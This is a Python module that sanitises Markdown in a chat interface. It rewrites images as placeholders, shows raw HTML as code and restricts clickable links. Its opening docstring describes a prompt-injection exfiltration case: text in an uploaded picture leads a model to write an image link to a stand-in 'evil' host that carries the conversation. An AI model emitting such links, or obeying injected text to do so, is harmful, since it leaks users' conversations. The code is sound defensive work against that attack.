"""Make Markdown safe to render, and pleasant to read, by parsing it as the renderer does.

Text inside an uploaded picture can make a model write ``![](https://evil/?q=<conversation>)``;
rendering that would load the image and leak the conversation. The same holds for any string
shown through Markdown: an imported file's fields, an error's detail, a model id, a file name.
So the text is parsed with markdown-it-py (``markdown_parser``: CommonMark + GFM, with and
without math) and the token stream decides; no regex guesses where a code span or a link ends.

Each top-level block that holds nothing active is kept exactly as written. A block that holds
an image, a link, raw HTML, a reference definition or text that looks like one is written again
from its tokens:

- an image becomes a small muted placeholder: 🖼️, its alt text, and its address as inline code
  (code is never auto-linked, so the address cannot be clicked or loaded);
- raw HTML is shown as code (inline, or a fenced block for an HTML block), except ``<br>``,
  which becomes a line break (" / " in a table cell); an HTML link ``<a href="…">text</a>``
  becomes its text and its address, as code;
- a Markdown link keeps its text and shows its real address beside it, as a link only for
  http(s) and mailto; other schemes (javascript:, data:, …) are shown as code;
- bare URLs become explicit links that stop where the address ends (a CJK full stop or a
  closing quote is not part of it); reference definitions are resolved and dropped;
- text is escaped, so nothing in it can open a construct; code and math are kept as written.

``escape_markdown`` is for strings that are never Markdown (labels, names, model ids): every
mark is escaped, so the renderer shows them literally.
"""

from __future__ import annotations

import html
import re
import threading
from collections import OrderedDict
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass
from urllib.parse import quote

from markdown_it.tree import SyntaxTreeNode

from components.text.markdown_parser import MarkdownParseError, Token, parse, parse_blocks

__all__ = [
    "MadeSafe",
    "block_starts",
    "blocks_made_safe_alone",
    "escape_markdown",
    "safe_markdown",
    "safe_partial_markdown",
    "stream_safely",
]

# --- escaping -------------------------------------------------------------------------------

_TEXT_MARKS = re.compile(r"([\\`*_\[\]<!~|$&])")
_LABEL_MARKS = re.compile(r"([\\`*_\[\]<>!~|$&#])")
_MARKS = re.compile(r"([\\`*_{}\[\]()<>#+\-!|~$&^])")
_NUMBERED = re.compile(r"^(\s*\d{1,9})\.")
_LINE_START = re.compile(r"^([-+=#>])|^(\d{1,9})([.)])", re.MULTILINE)
_AUTOLINKABLE = re.compile(r"(?i)(https?|ftp)(://)|\b(www)(\.)")
_BACKTICKS = re.compile(r"`+")
_BLANK_BEFORE = re.compile(r"(?:\r\n|\r|\n)[ \t]*(?:\r\n|\r|\n)\Z")
_EMPTY_ITEM = re.compile(r"(?:[-+*]|\d{1,9}[.)])(?:\n|$)")  # a written list's first line
_SAFE_SCHEME = re.compile(r"^(?:https?://|mailto:)", re.IGNORECASE)
_WORD_JOINER = "\u2060"

# What the renderer might read as active even where this parser did not (defence in depth).
_SUSPECT_TEXT = re.compile(r"!\[|<[A-Za-z/!?]")
_DEFINITION_MARK = "]:"
# Math is kept as written only when nothing in it could be read as a construct without math.
_UNSAFE_MATH = re.compile(r"`|<|!\[|\]\(|\]\[|://|\]:")
_ACTIVE_INLINE = frozenset({"image", "link_open", "html_inline"})

_A_OPEN = re.compile(r"^<a(?:\s[^>]*)?>$", re.IGNORECASE | re.DOTALL)
_A_CLOSE = re.compile(r"^</a\s*>$", re.IGNORECASE)
_HREF = re.compile(r"""\shref\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'<>`=]+))""", re.IGNORECASE)
_BREAK = re.compile(r"^<br\s*/?>$", re.IGNORECASE)
# Where a bare address ends although GFM would go on: CJK text, quotes, brackets, pipes.
_URL_STOP = re.compile(r"[\s<>\"'`\[\]\\|\u3000-\u303f\u3400-\u9fff\uf900-\ufaff\uff00-\uffef]")
_TRAILING = ".,:;!?*_~'\""
_GFM_LITERAL = re.compile(r"(?i)(?:https?://|www\.)")


def _unjoinable(text: str) -> str:
    """Defeat the renderer's literal autolinks ("http://", "www.") with a word joiner."""
    return _AUTOLINKABLE.sub(
        lambda m: (
            f"{m.group(1)}{_WORD_JOINER}{m.group(2)}"
            if m.group(1)
            else f"{m.group(3)}{_WORD_JOINER}{m.group(4)}"
        ),
        text,
    )


def escape_markdown(text: str) -> str:
    """Return ``text`` as Markdown that renders literally: every mark escaped, one line."""
    flat = " ".join(text.split()) if "\n" in text or "\r" in text else text
    return _unjoinable(_NUMBERED.sub(r"\1\\.", _MARKS.sub(r"\\\1", flat)))


def _text(text: str) -> str:
    return _unjoinable(_TEXT_MARKS.sub(r"\\\1", text))


def _label(text: str) -> str:
    return _LABEL_MARKS.sub(r"\\\1", text.replace("\n", " "))


def _code(text: str) -> str:
    """Return ``text`` as an inline code span, whatever backticks it holds."""
    text = text.replace("\n", " ")
    longest = max((len(run) for run in _BACKTICKS.findall(text)), default=0)
    fence = "`" * (longest + 1)
    pad = " " if text.startswith(("`", " ")) or text.endswith(("`", " ")) else ""
    return f"{fence}{pad}{text}{pad}{fence}"


def _href(url: str) -> str:
    return quote(url, safe="!#$%&'()*+,-./:;=?@[]_~")


def _link(url: str, text: str = "") -> str:
    """A clickable link to ``url`` (http, https, mailto only; anything else is code)."""
    if not _SAFE_SCHEME.match(url):
        return _code(url)
    return f"[{_label(text or url)}](<{_href(url)}>)"


def _with_address(label: str, label_md: str, url: str, *, clickable: bool) -> str:
    """``label_md`` (the rendered ``label``) followed by ``url``, or the url alone if the same."""
    if not url:
        return label_md
    shown = _link(url) if clickable else _code(url)
    if not label.strip() or label.strip() == url:
        return shown
    return f"{label_md} ({shown})"


def _placeholder(alt: str, url: str) -> str:
    # Brackets would close the :gray[...] directive early; the encoded forms mean the same URL.
    address = url.replace("[", "%5B").replace("]", "%5D")
    parts = ["🖼️"]
    if alt.strip():
        parts.append(f"*{escape_markdown(alt.strip())}*")
    if address:
        parts.append(_code(address))
    return f":gray[{' '.join(parts)}]"


def _fence(content: str, info: str = "", markup: str = "```") -> str:
    char = markup[0]
    longest = max((len(m.group(0)) for m in re.finditer(re.escape(char) + "+", content)), default=0)
    fence = char * max(3, len(markup), longest + 1)
    if content and not content.endswith("\n"):
        content += "\n"
    return f"{fence}{info}\n{content}{fence}"


# --- inline -------------------------------------------------------------------------------


def _plain_text(nodes: Sequence[SyntaxTreeNode]) -> str:
    """The text a run of inline nodes shows, marks and addresses left out."""
    out: list[str] = []
    for node in nodes:
        if node.type in ("text", "code_inline", "math_inline", "html_inline"):
            out.append(node.content)
        elif node.type in ("softbreak", "hardbreak"):
            out.append(" ")
        else:
            out.append(_plain_text(node.children))
    return "".join(out)


@dataclass(frozen=True)
class _Inline:
    """Write inline nodes again as safe Markdown; ``in_table`` changes how ``<br>`` reads."""

    in_table: bool = False

    def render(self, nodes: Sequence[SyntaxTreeNode]) -> str:
        out: list[str] = []
        i = 0
        while i < len(nodes):
            node = nodes[i]
            if node.type == "html_inline" and _A_OPEN.match(node.content):
                close = next(
                    (
                        j
                        for j in range(i + 1, len(nodes))
                        if nodes[j].type == "html_inline" and _A_CLOSE.match(nodes[j].content)
                    ),
                    None,
                )
                if close is not None:
                    _append(out, self._anchor(node.content, nodes[i + 1 : close]))
                    i = close + 1
                    continue
            following = nodes[i + 1] if i + 1 < len(nodes) else None
            _append(out, self._node(node, following))
            i += 1
        return "".join(out)

    def _node(self, node: SyntaxTreeNode, following: SyntaxTreeNode | None) -> str:
        kind = node.type
        if kind == "text":
            return _text(node.content)
        if kind == "softbreak":
            return " " if self.in_table else "\n"
        if kind == "hardbreak":
            return " / " if self.in_table else "\\\n"
        if kind == "code_inline":
            code = node.content.replace("|", "\\|") if self.in_table else node.content
            return _code(code)
        if kind == "math_inline":
            return self._math(node)
        if kind in ("em", "strong", "s"):
            mark = {"em": "*", "strong": "**", "s": "~~"}[kind]
            return f"{mark}{self.render(node.children)}{mark}"
        if kind == "link":
            return self._link(node)
        if kind == "image":
            return _placeholder(_plain_text(node.children), str(node.attrs.get("src", "")))
        if kind == "html_inline":
            return self._html(node.content, following)
        return _text(_plain_text([node]))

    def _math(self, node: SyntaxTreeNode) -> str:
        written = f"{node.markup}{node.content}{node.markup}"
        if _UNSAFE_MATH.search(node.content) or "\n" in node.content:
            return _text(written)
        return written

    def _link(self, node: SyntaxTreeNode) -> str:
        url = str(node.attrs.get("href", ""))
        label = _plain_text(node.children)
        if node.markup == "autolink":
            return _link(url, label)
        if _fuzzy(node, node.children):
            return _text(label)
        if node.markup == "linkify":
            return self._bare_url(url, label)
        return _with_address(label, self.render(node.children), url, clickable=True)

    def _bare_url(self, url: str, shown: str) -> str:
        """A literal address, cut where the reader would say it ends, as an explicit link."""
        stop = _URL_STOP.search(shown)
        kept = shown[: stop.start()] if stop else shown
        kept = _trim_url(kept)
        rest = shown[len(kept) :]
        href = url[: len(url) - len(rest)] if rest else url
        if not kept:
            return _text(shown)
        return _link(href, kept) + _text(rest)

    def _anchor(self, opening: str, inner: Sequence[SyntaxTreeNode]) -> str:
        href = _HREF.search(opening)
        url = html.unescape(next(g for g in href.groups() if g is not None)) if href else ""
        # Raw HTML is never a link here, even a harmless one: its address is shown as code.
        return _with_address(_plain_text(inner), self.render(inner), url, clickable=False)

    def _html(self, html: str, following: SyntaxTreeNode | None) -> str:
        if not _BREAK.match(html.strip()):
            return _code(html)
        # Models put <br> in table cells for a line break; Markdown has none there.
        if self.in_table:
            return " / "
        if following is None:
            return ""
        return "\\" if following.type == "softbreak" else "\\\n"


def _append(out: list[str], piece: str) -> None:
    """Add ``piece``; a word joiner keeps two code spans (or maths) from fusing their marks."""
    if out and piece and out[-1][-1:] == piece[:1] and piece[:1] in "`$":
        out.append(_WORD_JOINER)
    out.append(piece)


def _trim_url(url: str) -> str:
    """Cut trailing punctuation (and an unbalanced ")") off a bare URL, as GFM does."""
    end = len(url)
    while end:
        ch = url[end - 1]
        if ch in _TRAILING or (ch == ")" and url[:end].count("(") < url[:end].count(")")):
            end -= 1
        else:
            break
    return url[:end]


def _paragraph(markdown: str) -> str:
    """Escape what would start another block at the start of a line of a paragraph."""
    return _LINE_START.sub(
        lambda m: f"\\{m.group(1)}" if m.group(1) else f"{m.group(2)}\\{m.group(3)}", markdown
    )


# --- blocks -------------------------------------------------------------------------------


def _indent(text: str, first: str, rest: str) -> str:
    lines = text.split("\n") if text else [""]
    out = [first + lines[0] if lines[0] else first.rstrip()]
    out += [rest + line if line else "" for line in lines[1:]]
    return "\n".join(out)


def _children(node: SyntaxTreeNode, *, tight: bool = False) -> str:
    written = [_block(child) for child in node.children]
    out = written[:1]
    for block in written[1:]:
        # A list whose first item is empty now (it held only a definition) cannot interrupt a
        # paragraph: joined tightly, the two would read as one paragraph.
        out.append("\n" if tight and not _EMPTY_ITEM.match(block) else "\n\n")
        out.append(block)
    return "".join(out)


def _list(node: SyntaxTreeNode) -> str:
    tight = all(
        grand.hidden
        for item in node.children
        for grand in item.children
        if grand.type == "paragraph"
    )
    number = int(str(node.attrs.get("start", 1)))
    items: list[str] = []
    for item in node.children:
        if node.type == "ordered_list":
            marker = f"{number}{item.markup or '.'}"
            number += 1
        else:
            marker = item.markup or "-"
        body = _children(item, tight=tight)
        items.append(_indent(body, marker + " ", " " * (len(marker) + 1)))
    return ("\n" if tight else "\n\n").join(items)


def _table(node: SyntaxTreeNode) -> str:
    rows = [row for section in node.children for row in section.children]
    cells = _Inline(in_table=True)
    lines: list[str] = []
    for index, row in enumerate(rows):
        texts = [
            cells.render(cell.children[0].children if cell.children else [])
            for cell in row.children
        ]
        lines.append("| " + " | ".join(texts) + " |")
        if index == 0:
            aligns = [str(cell.attrs.get("style", "")) for cell in row.children]
            marks = {
                "text-align:left": ":---",
                "text-align:right": "---:",
                "text-align:center": ":---:",
            }
            lines.append("|" + "|".join(marks.get(a, "---") for a in aligns) + "|")
    return "\n".join(lines)


def _block(node: SyntaxTreeNode) -> str:
    """Write one block node again as safe Markdown (no trailing newline)."""
    kind = node.type
    if kind == "paragraph":
        return _paragraph(_Inline().render(node.children[0].children))
    if kind == "heading":
        text = _Inline().render(node.children[0].children).replace("\\\n", " ").replace("\n", " ")
        return f"{'#' * int(node.tag[1])} {text}"
    if kind == "blockquote":
        # every line marked, blank ones too: a bare blank line would end the quote there
        return "\n".join(f"> {line}" if line else ">" for line in _children(node).split("\n"))
    if kind in ("bullet_list", "ordered_list"):
        return _list(node)
    if kind == "fence":
        return _fence(node.content, node.info, node.markup)
    if kind == "code_block":
        return _fence(node.content)
    if kind == "html_block":
        return _fence(node.content, "html")
    if kind == "math_block":
        if _UNSAFE_MATH.search(node.info + node.content) or "\n" in node.info:
            head = f"{node.info}\n" if node.info.strip() else ""  # "$$x": its first line
            return _fence(head + node.content, "latex")
        closing = "" if node.content.endswith("\n") or not node.content else "\n"
        return f"{node.markup}{node.info}\n{node.content}{closing}{node.markup}"
    if kind == "table":
        return _table(node)
    if kind == "hr":
        return "***"
    return _children(node)


# --- the document -------------------------------------------------------------------------


def _groups(tokens: list[Token]) -> Iterator[list[Token]]:
    """Yield the tokens of each top-level block."""
    start, depth = 0, 0
    for i, token in enumerate(tokens):
        depth += token.nesting
        if depth == 0:
            yield tokens[start : i + 1]
            start = i + 1


def _is_active(group: list[Token], source: str) -> bool:
    """Whether the block holds anything that must be written again (or might be read so)."""
    if _DEFINITION_MARK in source:
        return True
    for token in group:
        if token.type == "html_block":
            return True
        children = token.children or []
        for i, child in enumerate(children):
            if child.type == "link_open" and _fuzzy(child, children[i + 1 : i + 2]):
                continue
            if child.type in _ACTIVE_INLINE:
                return True
            if child.type == "text" and _SUSPECT_TEXT.search(child.content):
                return True
    return False


def _fuzzy(link_open: Token | SyntaxTreeNode, inside: Sequence[Token | SyntaxTreeNode]) -> bool:
    """Whether a literal link is one GFM would not make ("example.org": no scheme, no www.)."""
    if link_open.markup != "linkify":
        return False
    shown = inside[0].content if inside and inside[0].type == "text" else ""
    return not _GFM_LITERAL.match(shown) and "@" not in shown


def _lines(text: str) -> list[str]:
    parts = text.split("\n")
    return [line + "\n" for line in parts[:-1]] + ([parts[-1]] if parts[-1] else [])


def _normalise(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\r", "\n").replace("\0", "\ufffd")


def _parses(text: str) -> tuple[list[Token], ...]:
    """The math-aware parse first (it is the one written again), then the plain one if the
    two can differ (only a ``$`` makes them)."""
    math = parse(text, math=True)
    return (math, parse(text)) if "$" in text else (math,)


def _active_lines(parses: Iterable[list[Token]], lines: list[str]) -> list[bool]:
    """Mark the lines of every block that either parser (with or without math) finds active,
    and of every block that shares a line with one marked: where the two parses cut the lines
    into blocks differently, a block written again changes how the other reads its neighbours
    (a code span that held a line of it ends, and what the next line holds comes out)."""
    active = [False] * len(lines)
    spans: list[tuple[int, int]] = []
    for tokens in parses:
        for group in _groups(tokens):
            first, last = group[0].map or (0, 0)
            spans.append((first, last))
            if _is_active(group, "".join(lines[first:last])):
                active[first:last] = [True] * (last - first)
    for first, last in _overlapping(spans):
        if any(active[first:last]):
            active[first:last] = [True] * (last - first)
    return active


def _overlapping(spans: list[tuple[int, int]]) -> Iterator[tuple[int, int]]:
    """Yield the line spans that blocks sharing lines, of either parse, cover together."""
    start, end = 0, 0
    for first, last in sorted(spans):
        if first < end:
            end = max(end, last)
            continue
        if end > start:
            yield start, end
        start, end = first, last
    if end > start:
        yield start, end


def safe_markdown(text: str) -> str:
    """Return ``text`` with images as placeholders, HTML as code and link addresses shown.

    Text the parser fails on is shown as it is written, as a code block."""
    text = _normalise(text)
    lines = _lines(text)
    try:
        parses = _parses(text)
    except MarkdownParseError:
        return _fence(text) + ("\n" if text.endswith("\n") else "")
    active = _active_lines(parses, lines)
    out: list[str] = []
    line, written = 0, False
    for group in _groups(parses[0]):
        first, last = group[0].map or (line, line)
        out += [_between(lines[i]) for i in range(line, first)]
        # After a block written again, an indented block is written again too: the rewrite may
        # have narrowed a list's items ("*    x" is written "* x"), and an indented block that
        # stood beside the list would now be read inside its last item.
        rewrite = any(active[first:last]) or (written and lines[first][:1] in (" ", "\t"))
        if (rewrite or written) and _touches(out):
            # A block written again must stand apart from the block it touches: written anew it
            # may no longer be able to interrupt that one (a list whose first item was only a
            # definition is now empty, and an empty item cannot interrupt a paragraph), and the
            # two would read as one, an inline construct spanning both.
            out.append("\n")
        if rewrite:
            end = last
            while end > first + 1 and not lines[end - 1].strip():
                end -= 1
            ending = "\n" if lines[end - 1].endswith("\n") else ""
            out.append(_block(SyntaxTreeNode(group).children[0]) + ending)
            out += lines[end:last]  # the blank lines its own lines end with (a list's) stay
        else:
            out += lines[first:last]
        line, written = last, rewrite
    out += [_between(lines[i]) for i in range(line, len(lines))]
    return "".join(out)


def _touches(out: list[str]) -> bool:
    """Whether what is written so far ends with a line of a block (not blank, not nothing)."""
    return bool(next((part for part in reversed(out) if part), "").strip())


def _between(line: str) -> str:
    """A line outside every block: blank, or part of a reference definition (dropped)."""
    if not line.strip():
        return line
    return "\n" if line.endswith("\n") else ""


_LINE_BREAK = re.compile(r"\r\n|\r|\n")


def blocks_made_safe_alone(text: str, cuts: Iterable[int]) -> bool:
    """Whether ``safe_markdown(text)`` is ``text`` cut at ``cuts`` (offsets where top-level
    blocks start), each piece made safe alone, joined.

    Each block is written from its own tokens, so only three things reach across blocks: a
    reference definition (resolved wherever it stands); ``$`` (then the blocks of the parse
    without math, which can span several of the math-aware parse's, mark lines too); and a
    block written again that touches the one before it, or an indented one after it (a blank
    line is put between them, the indented one is written again: a piece alone cannot know of
    either): so each cut must follow a blank line and start at the margin."""
    if _DEFINITION_MARK in text or "$" in text:
        return False
    # the line before each cut, looked for in the 64 characters before it (a longer blank line
    # only costs the check: the caller then parses the whole)
    return all(
        _BLANK_BEFORE.search(text, max(0, cut - 64), cut) and text[cut : cut + 1] not in " \t"
        for cut in cuts
    )


def block_starts(text: str) -> list[int]:
    """Return the offset in ``text`` where each top-level block starts (for the live view)."""
    line_starts = [0] + [m.end() for m in _LINE_BREAK.finditer(text)]
    try:
        groups = _groups(parse_blocks(_normalise(text), math=True))
    except MarkdownParseError:
        return [0]  # one block: the live view keeps it all as its tail
    return [line_starts[(group[0].map or (0, 0))[0]] for group in groups]


# --- streaming ----------------------------------------------------------------------------

# What may still be growing at the very end: "!", an image or link not closed yet, a tag not
# closed yet, or a bare URL. Held back from the live view only so it never shows half-way as
# raw syntax; what is shown is made safe by ``safe_markdown`` either way.
_OPEN_TAIL = re.compile(
    r"(?:!?\[[^\]\n]{0,1000}(?:\](?:\([^)\n]{0,2000}|\[[^\]\n]{0,1000})?)?"
    r"|<[^>\n]{0,2000}|(?:https?://|www\.)\S{0,2000}(?<![)>])|\bhttps?:/{0,2}|!)$",
    re.IGNORECASE,
)


def _complete_part(text: str) -> str:
    tail = _OPEN_TAIL.search(text[-4100:])
    if tail is None:
        return text
    return text[: len(text) - len(tail.group(0))]


def safe_partial_markdown(text: str) -> str:
    """Return the live view of an answer still arriving: ``safe_markdown`` of what is complete."""
    return safe_markdown(_complete_part(text))


def stream_safely(deltas: Iterable[str]) -> Iterator[str]:
    """Yield deltas whose running total is always safe to render (no image or HTML loads).

    Each yield extends the live view (``safe_partial_markdown`` of the text so far); a view that
    rewrites what was shown waits for the next view that extends it.
    """
    raw, shown = "", ""
    for delta in deltas:
        raw += delta
        view = safe_partial_markdown(raw)
        if view.startswith(shown) and len(view) > len(shown):
            yield view[len(shown) :]
            shown = view


class MadeSafe:
    """``safe_markdown`` that keeps its last results: a long answer is made safe for its live
    view's end and again by every later run that draws the history, and each answer's meta line
    on every run; the same text gives the same result. One per session (the chat page's
    ``chat_state.ChatState.made_safe``): what a visitor's chat holds stays in their session. Keeps
    up to ``entries`` texts and ``chars`` characters of them (a longer text is not kept).

    A text made safe in pieces (a live answer's, ``keep``) keeps them: the history draws the
    answer as those pieces, where the live view drew them (``markdown_view.show_answer``)."""

    def __init__(self, entries: int = 64, chars: int = 2_000_000) -> None:
        self._entries = entries
        self._chars = chars
        self._kept: OrderedDict[str, tuple[str, ...]] = OrderedDict()
        self._size = 0
        self._lock = threading.Lock()

    def __len__(self) -> int:
        return len(self._kept)

    @property
    def chars(self) -> int:
        """How many characters of texts it keeps now."""
        return self._size

    def keep(self, text: str, pieces: Sequence[str]) -> None:
        """Keep ``pieces``, joined, as ``text`` made safe: the caller has them already (a live
        answer's, ``LiveMarkdown.finish``), so the next call for ``text`` need not make it again."""
        if len(text) > self._chars:
            return
        with self._lock:
            if self._kept.pop(text, None) is not None:  # made whole before: the pieces replace it
                self._size -= len(text)
            self._remember(text, tuple(pieces))

    def __call__(self, text: str) -> str:
        """Return ``text`` made safe (``safe_markdown``)."""
        return "".join(self.pieces(text))

    def pieces(self, text: str) -> tuple[str, ...]:
        """Return ``text`` made safe as the pieces it was kept in (``keep``), else as one."""
        with self._lock:
            found = self._kept.get(text)
            if found is not None:
                self._kept.move_to_end(text)
                return found
        made = (safe_markdown(text),)
        if len(text) > self._chars:
            return made
        with self._lock:
            self._remember(text, made)
        return made

    def _remember(self, text: str, made: tuple[str, ...]) -> None:
        if text not in self._kept:
            self._kept[text] = made
            self._size += len(text)
        while len(self._kept) > self._entries or self._size > self._chars:
            old, _ = self._kept.popitem(last=False)
            self._size -= len(old)
